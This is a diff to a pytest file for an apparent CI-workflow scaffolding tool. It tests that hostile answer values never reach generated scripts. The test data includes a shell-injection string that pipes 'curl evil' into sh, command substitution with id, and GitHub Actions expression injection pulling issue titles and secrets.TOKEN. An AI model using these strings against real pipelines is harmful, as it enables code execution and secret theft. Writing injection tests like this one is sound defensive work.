@@ -216,7 +216,9 @@ def test_workflows_parse_back_into_the_pipeline_model(
 
 
 def test_hostile_answers_never_reach_a_script(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    hostile = 'x"; curl evil | sh; echo "${{ github.event.issue.title }}" $(id) `id`\nrun: evil'
+    hostile = (
+        'x"; curl evil | sh; echo "${{ github.event.issue.title }}" $(id) `id` run: evil'  # one line (test_answers)
+    )
     assert (
         scaffold("safe-name", tmp_path, "--data", f"description={hostile}", "--data", "author=${{ secrets.TOKEN }}")
         == 0
@@ -232,7 +234,7 @@ def test_hostile_answers_never_reach_a_script(tmp_path: Path, capsys: pytest.Cap
     # would interpret it.
     assert scaffold("other-name", tmp_path, "--data", "mlci_install=mlci ${{ github.event.issue.title }}") == 2
     err = capsys.readouterr().err
-    assert re.search(r"mlci\.yaml:\d+: 'ci.mlci_install' is 'mlci \$\{\{ github.event.issue.title \}\}'", err), err
+    assert re.search(r"--data mlci_install: 'ci.mlci_install' is 'mlci \$\{\{ github.event.issue.title \}\}'", err), err
     assert not (tmp_path / "other-name").exists()
 
 
